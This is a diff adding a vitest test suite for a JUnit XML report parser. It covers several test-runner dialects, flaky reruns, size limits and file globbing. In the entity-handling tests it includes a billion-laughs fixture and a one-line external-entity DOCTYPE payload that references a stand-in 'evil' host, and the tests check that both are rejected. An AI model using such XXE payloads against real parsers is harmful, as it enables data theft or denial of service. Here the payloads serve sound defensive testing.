@@ -1,0 +1,263 @@
+import {
+  mkdtempSync,
+  mkdirSync,
+  copyFileSync,
+  openSync,
+  closeSync,
+  ftruncateSync,
+  writeFileSync,
+  rmSync,
+} from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { declaresEntities, parseJunitXml, readJunitFiles } from '../../src/collect/junit.ts';
+import type { TestReport } from '../../src/features/test-report.ts';
+
+const FIX = resolve(import.meta.dirname, '../fixtures/junit');
+const MAX = 20 * 1024 * 1024;
+
+function tally(r: TestReport) {
+  const n = (s: string) => r.cases.filter((c) => c.status === s).length;
+  return {
+    total: r.cases.length,
+    passed: n('passed'),
+    failed: n('failed'),
+    errored: n('errored'),
+    skipped: n('skipped'),
+    flaky: r.cases.filter((c) => c.flaky).length,
+    seconds: Math.round(r.cases.reduce((s, c) => s + c.durationSeconds, 0) * 1000) / 1000,
+  };
+}
+
+async function one(file: string): Promise<TestReport> {
+  const { reports, warnings } = await readJunitFiles([join(FIX, file)], { maxBytes: MAX });
+  expect(warnings).toEqual([]);
+  expect(reports).toHaveLength(1);
+  return reports[0]!;
+}
+
+const byName = (r: TestReport, name: string) => r.cases.find((c) => c.name === name);
+
+describe('JUnit dialects (counts read off each fixture by hand)', () => {
+  it('Maven Surefire: flakyFailure/flakyError pass as flaky, rerunFailure/rerunError stay failed', async () => {
+    const r = await one('maven-surefire.xml');
+    // createsOrder, rejectsEmptyCart, appliesVolumeDiscount (flaky), sendsConfirmationEmail (flaky),
+    // chargesCardOnce (failure + 2 reruns), persistsOrderLines (error + rerun), legacyPricingRules (skipped)
+    expect(tally(r)).toEqual({
+      total: 7,
+      passed: 4,
+      failed: 1,
+      errored: 1,
+      skipped: 1,
+      flaky: 2,
+      seconds: 4.82,
+    });
+    expect(byName(r, 'chargesCardOnce')).toMatchObject({ status: 'failed', flaky: false });
+    expect(byName(r, 'appliesVolumeDiscount')).toMatchObject({ status: 'passed', flaky: true });
+    expect(byName(r, 'createsOrderForKnownCustomer')?.id).toBe(
+      'com.acme.orders.OrderServiceTest::createsOrderForKnownCustomer',
+    );
+  });
+
+  it('pytest: error on setup, skip and xfail as skipped, escaped parametrize ids decoded', async () => {
+    const r = await one('pytest.xml');
+    // tax, discount[10] pass; discount[50] fails; currency pass; migration errors; rollback + rate limit
+    // skipped; get_order pass. Times .004+.002+.003+.001+0+0+.118+3.789.
+    expect(tally(r)).toEqual({
+      total: 8,
+      passed: 4,
+      failed: 1,
+      errored: 1,
+      skipped: 2,
+      flaky: 0,
+      seconds: 3.917,
+    });
+    expect(byName(r, 'test_currency_symbol[<EUR>]')?.status).toBe('passed');
+    expect(byName(r, 'test_migration_applies')?.status).toBe('errored');
+  });
+
+  it('jest-junit: nested testsuites, missing time/classname/suite name', async () => {
+    const r = await one('jest-junit.xml');
+    // web: renders, discount badge (fail), hides badge (skip), formats cents (no time), useCheckout (no
+    // classname); server (unnamed suite): 3 pass + 1 todo skipped. Times .031+.012+.215+2.904+1.180+.003.
+    expect(tally(r)).toEqual({
+      total: 9,
+      passed: 6,
+      failed: 1,
+      errored: 0,
+      skipped: 2,
+      flaky: 0,
+      seconds: 4.345,
+    });
+    expect(byName(r, 'CartSummary formats cents')?.durationSeconds).toBe(0);
+    // The suite name stands in for the missing classname.
+    expect(byName(r, 'useCheckout submits once')?.id).toBe('useCheckout::useCheckout submits once');
+  });
+
+  it('go-junit-report: properties, build-failure error, a test rerun after failing is flaky', async () => {
+    const r = await one('go-junit-report.xml');
+    // cart: AddItem, AddItem/zero_quantity pass; RemoveItem fails; CheckoutTimeout skipped; PriceCache
+    // fails then passes (flaky). payment: [build failed] errors. api: Health pass, ListOrders fails.
+    expect(tally(r)).toEqual({
+      total: 8,
+      passed: 4,
+      failed: 2,
+      errored: 1,
+      skipped: 1,
+      flaky: 1,
+      seconds: 1.625,
+    });
+    const cache = r.cases.filter((c) => c.name === 'TestPriceCache');
+    expect(cache).toHaveLength(1);
+    expect(cache[0]).toMatchObject({ status: 'passed', flaky: true });
+    expect(cache[0]!.durationSeconds).toBeCloseTo(0.408, 9);
+  });
+});
+
+describe('parseJunitXml', () => {
+  const parse = (xml: string) => parseJunitXml(xml, { maxBytes: MAX, source: 'mem.xml' });
+
+  it('counts testcases, not suite attributes, and reads testsuites nested to any depth', () => {
+    let xml = '<testcase classname="deep" name="t"/>';
+    for (let i = 0; i < 30; i++)
+      xml = `<testsuites tests="999" failures="999"><testsuite name="s${i}">${xml}</testsuite></testsuites>`;
+    const r = parse(xml);
+    expect(r.ok && r.report.cases.map((c) => [c.id, c.status])).toEqual([['deep::t', 'passed']]);
+  });
+
+  it('resolves repeated testcases to the last result; failed-then-passed is flaky, passed-then-failed is not', () => {
+    const r = parse(`<testsuite>
+      <testcase classname="A" name="x" time="1"><failure/></testcase>
+      <testcase classname="A" name="y" time="1"/>
+      <testcase classname="A" name="x" time="2"/>
+      <testcase classname="A" name="y" time="1"><error/></testcase>
+      <testcase classname="A" name="z"><skipped/></testcase>
+    </testsuite>`);
+    expect(r.ok).toBe(true);
+    if (!r.ok) return;
+    expect(r.report.cases.map((c) => [c.name, c.status, c.flaky, c.durationSeconds])).toEqual([
+      ['x', 'passed', true, 3],
+      ['y', 'errored', false, 2],
+      ['z', 'skipped', false, 0],
+    ]);
+  });
+
+  it('parses Surefire-style "1,234.5" times and ignores junk times', () => {
+    const r = parse(
+      '<testsuite><testcase name="a" time="1,234.5"/><testcase name="b" time="abc"/><testcase name="c" time="-3"/></testsuite>',
+    );
+    expect(r.ok && r.report.cases.map((c) => c.durationSeconds)).toEqual([1234.5, 0, 0]);
+  });
+
+  it('refuses the billion-laughs file with a clear warning and expands nothing', async () => {
+    const { reports, warnings } = await readJunitFiles([join(FIX, 'billion-laughs.xml')], { maxBytes: MAX });
+    expect(reports).toEqual([]);
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toContain('billion-laughs.xml');
+    expect(warnings[0]).toMatch(/DOCTYPE declares XML entities/);
+  });
+
+  it('leaves undeclared entity references as literal text (nothing is expanded)', () => {
+    const r = parse('<testsuite><testcase classname="c" name="&lol9;&amp;"/></testsuite>');
+    expect(r.ok && r.report.cases[0]!.name).toBe('&lol9;&');
+  });
+
+  it('accepts a DOCTYPE without entity declarations', () => {
+    expect(
+      declaresEntities(
+        '<?xml version="1.0"?><!-- x --><!DOCTYPE testsuites SYSTEM "junit.dtd"><testsuites/>',
+      ),
+    ).toBe(false);
+    expect(declaresEntities('<!DOCTYPE t [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><t/>')).toBe(true);
+    // An entity declaration quoted inside captured output is not a DOCTYPE.
+    expect(
+      declaresEntities(
+        '<testsuite><system-out><![CDATA[<!DOCTYPE a [<!ENTITY b "c">]>]]></system-out></testsuite>',
+      ),
+    ).toBe(false);
+    const r = parse('<!DOCTYPE testsuite SYSTEM "junit.dtd"><testsuite><testcase name="a"/></testsuite>');
+    expect(r.ok && r.report.cases).toHaveLength(1);
+  });
+
+  it('turns malformed, empty and non-JUnit documents into warnings naming the source', () => {
+    for (const xml of [
+      '<testsuite><testcase name="a"><failure>x</testcase></testsuite>',
+      '',
+      '<html><body/></html>',
+      '<testsuite',
+    ]) {
+      const r = parse(xml);
+      expect(r.ok).toBe(false);
+      if (!r.ok) expect(r.warning.startsWith('mem.xml: ')).toBe(true);
+    }
+  });
+
+  it('refuses a string over maxBytes', () => {
+    const r = parseJunitXml('<testsuite><testcase name="a"/></testsuite>', { maxBytes: 10, source: 's' });
+    expect(r).toEqual({ ok: false, warning: expect.stringMatching(/over the 10-byte limit/) });
+  });
+});
+
+describe('readJunitFiles', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'deployrisk-junit-'));
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('a malformed file is a warning and the other files are still parsed', async () => {
+    const { reports, warnings } = await readJunitFiles(
+      [join(FIX, 'pytest.xml'), join(FIX, 'malformed.xml'), join(FIX, 'go-junit-report.xml')],
+      { maxBytes: MAX },
+    );
+    expect(reports.map((r) => r.source)).toEqual([join(FIX, 'pytest.xml'), join(FIX, 'go-junit-report.xml')]);
+    expect(warnings).toHaveLength(1);
+    expect(warnings[0]).toMatch(/malformed\.xml: malformed XML/);
+  });
+
+  it('refuses an oversized file from its size alone (a sparse 8 GiB file is never read)', async () => {
+    const big = join(dir, 'huge.xml');
+    const fd = openSync(big, 'w');
+    ftruncateSync(fd, 8 * 1024 ** 3);
+    closeSync(fd);
+    const { reports, warnings } = await readJunitFiles([big, join(FIX, 'pytest.xml')], { maxBytes: MAX });
+    expect(reports).toHaveLength(1);
+    expect(warnings).toEqual([
+      `${big}: report is ${8 * 1024 ** 3} bytes, over the ${MAX}-byte limit (DEPLOYRISK_MAX_REPORT_BYTES); skipped`,
+    ]);
+    rmSync(big);
+  });
+
+  it('expands *, ? and ** globs, relative to cwd, dedupes, and warns on patterns matching nothing', async () => {
+    mkdirSync(join(dir, 'svc/a/reports'), { recursive: true });
+    mkdirSync(join(dir, 'svc/b/deeper/reports'), { recursive: true });
+    mkdirSync(join(dir, 'svc/.hidden'), { recursive: true });
+    copyFileSync(join(FIX, 'pytest.xml'), join(dir, 'svc/a/reports/TEST-1.xml'));
+    copyFileSync(join(FIX, 'jest-junit.xml'), join(dir, 'svc/b/deeper/reports/TEST-2.xml'));
+    copyFileSync(join(FIX, 'pytest.xml'), join(dir, 'svc/.hidden/TEST-3.xml'));
+    writeFileSync(join(dir, 'svc/a/reports/notes.txt'), 'not a report');
+    const { reports, warnings } = await readJunitFiles(
+      ['svc/**/TEST-?.xml', 'svc/a/*/*.xml', 'nothing/*.xml'],
+      {
+        maxBytes: MAX,
+        cwd: dir,
+      },
+    );
+    expect(reports.map((r) => r.source)).toEqual([
+      join(dir, 'svc/a/reports/TEST-1.xml'),
+      join(dir, 'svc/b/deeper/reports/TEST-2.xml'),
+    ]);
+    expect(warnings).toEqual(['no files match "nothing/*.xml"']);
+  });
+
+  it('reads the .xml files of a directory, names missing files, and enforces roots', async () => {
+    const missing = join(dir, 'missing.xml');
+    const { reports, warnings } = await readJunitFiles([join(dir, 'svc/a/reports'), missing], {
+      maxBytes: MAX,
+    });
+    expect(reports).toHaveLength(1);
+    expect(warnings).toEqual([`${missing}: no such file`]);
+
+    const outside = await readJunitFiles([join(FIX, 'pytest.xml')], { maxBytes: MAX, roots: [dir] });
+    expect(outside.reports).toEqual([]);
+    expect(outside.warnings[0]).toMatch(/outside the allowed report directories/);
+  });
+});
